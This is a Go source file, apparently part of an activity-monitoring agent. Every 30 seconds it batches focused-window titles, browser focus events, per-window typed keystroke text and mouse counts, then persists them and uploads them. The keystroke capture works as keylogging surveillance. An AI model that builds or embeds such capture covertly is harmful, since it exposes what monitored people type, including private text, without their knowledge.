package activity

import (
	"context"
	"encoding/json"
	"fmt"
	"sort"
	"strings"
	"time"

	"github.com/sayandeep-bot/spectosoft/lifecycle"
	"github.com/sayandeep-bot/spectosoft/log"
	"github.com/sayandeep-bot/spectosoft/metrics"
	"github.com/sayandeep-bot/spectosoft/pending"
	"github.com/sayandeep-bot/spectosoft/types"
	"github.com/sayandeep-bot/spectosoft/upload"
)

// DefaultFlushInterval between batch flushes.
const DefaultFlushInterval = 30 * time.Second

// browserApps are substrings that mark a focused application as a
// browser, promoting its focus events to BrowserActivity.
var browserApps = []string{"chrome", "firefox", "edge", "safari", "brave", "msedge"}

// ServiceConfig wires the activity service.
type ServiceConfig struct {
	Tracker *Tracker
	// Prober resolves the focused window at flush time. Nil disables
	// focus events; typed input and counters still flush.
	Prober WindowProber
	Store  *pending.Store
	Engine *upload.Engine
	// FlushInterval between batch flushes; 0 means
	// DefaultFlushInterval.
	FlushInterval time.Duration
	// SweepInterval paces the retry sweeper; 0 uses the engine
	// default.
	SweepInterval time.Duration

	Logger    *log.Logger
	Collector *metrics.Collector
}

// Service drains the tracker on a fixed interval and persists the
// coalesced events as one JSON batch per flush. Quiet intervals
// produce no artifact. Start and Stop are idempotent.
type Service struct {
	cfg ServiceConfig
	ctl lifecycle.Controller
}

// NewService builds the activity service.
func NewService(cfg ServiceConfig) *Service {
	if cfg.FlushInterval <= 0 {
		cfg.FlushInterval = DefaultFlushInterval
	}
	cfg.Logger = cfg.Logger.WithService("activity")
	return &Service{cfg: cfg}
}

// Start launches the flush loop. Reports whether a new generation
// started. The first flush happens one interval after start so the
// tracker has something to say.
func (s *Service) Start() bool {
	flag := s.ctl.Start()
	if flag == nil {
		s.cfg.Logger.Info("activity already running, ignoring start", nil)
		return false
	}
	s.cfg.Logger.Info("activity service started", map[string]any{
		"flush_interval_seconds": int(s.cfg.FlushInterval / time.Second),
	})
	go s.run(flag)
	go s.cfg.Engine.RunSweeper(flag, types.KindActivity, s.cfg.SweepInterval)
	return true
}

// Stop signals the running generation. Reports whether anything was
// running.
func (s *Service) Stop() bool {
	if !s.ctl.Stop() {
		s.cfg.Logger.Info("activity not running, ignoring stop", nil)
		return false
	}
	s.cfg.Logger.Info("activity stop requested", nil)
	return true
}

// Running reports whether a generation holds the slot.
func (s *Service) Running() bool {
	return s.ctl.Running()
}

func (s *Service) run(flag *lifecycle.Flag) {
	defer s.ctl.Release(flag)
	lastTitle := ""
	for {
		if lifecycle.Sleep(flag, s.cfg.FlushInterval) {
			break
		}
		lastTitle = s.flushOnce(lastTitle)
	}
	s.cfg.Logger.Info("activity service stopped", nil)
}

// flushOnce assembles and persists one batch. It returns the focused
// window title so the caller can suppress repeat focus events; the
// incoming lastTitle is returned unchanged when probing fails.
func (s *Service) flushOnce(lastTitle string) string {
	now := time.Now().UTC().Format(time.RFC3339)
	events := make([]types.Activity, 0, 4)

	if s.cfg.Prober != nil {
		window, err := s.cfg.Prober.ActiveWindow()
		switch {
		case err != nil:
			s.cfg.Logger.Debug("window probe failed", map[string]any{
				"error": err.Error(),
			})
		case window.Title != "" && window.Title != lastTitle:
			events = append(events, focusEvent(now, window))
			lastTitle = window.Title
		}
	}

	drained := s.cfg.Tracker.Drain()
	for _, window := range sortedKeys(drained.Keystrokes) {
		event := types.Activity{
			Timestamp: now,
			Type:      types.ActivityKeyboardInput,
			Details:   drained.Keystrokes[window],
		}
		if window != "" {
			event.WindowTitle = &window
		}
		events = append(events, event)
	}
	if drained.Clicks > 0 {
		events = append(events, types.Activity{
			Timestamp: now,
			Type:      types.ActivityMouseClick,
			Details:   fmt.Sprintf("%d mouse clicks", drained.Clicks),
		})
	}
	if drained.Scrolls > 0 {
		events = append(events, types.Activity{
			Timestamp: now,
			Type:      types.ActivityMouseScroll,
			Details:   fmt.Sprintf("%d scroll events", drained.Scrolls),
		})
	}

	if len(events) == 0 {
		return lastTitle
	}

	payload, err := json.MarshalIndent(types.ActivityBatch{Activities: events}, "", "  ")
	if err != nil {
		s.cfg.Logger.Error("could not encode activity batch", map[string]any{
			"error": err.Error(),
		})
		return lastTitle
	}

	path, err := s.cfg.Store.Persist(types.KindActivity, ".json", payload)
	if err != nil {
		s.cfg.Collector.IncPersistFailure(string(types.KindActivity))
		s.cfg.Logger.Error("could not persist activity batch", map[string]any{
			"error": err.Error(),
		})
		return lastTitle
	}
	s.cfg.Collector.IncPersisted(string(types.KindActivity))
	s.cfg.Logger.Debug("activity batch persisted", map[string]any{
		"events": len(events),
	})

	s.cfg.Engine.DeliverNow(context.Background(), types.KindActivity, path)
	return lastTitle
}

// focusEvent builds the focus-change event for a window, promoted to
// BrowserActivity when the owning application looks like a browser.
func focusEvent(now string, window Window) types.Activity {
	kind := types.ActivityWindowFocus
	if isBrowser(window.App) {
		kind = types.ActivityBrowserActivity
	}
	title := window.Title
	event := types.Activity{
		Timestamp:   now,
		Type:        kind,
		Details:     fmt.Sprintf("Focus on: '%s'", title),
		WindowTitle: &title,
	}
	if window.App != "" {
		app := window.App
		event.AppName = &app
	}
	return event
}

func isBrowser(app string) bool {
	lowered := strings.ToLower(app)
	for _, name := range browserApps {
		if strings.Contains(lowered, name) {
			return true
		}
	}
	return false
}

func sortedKeys(m map[string]string) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}
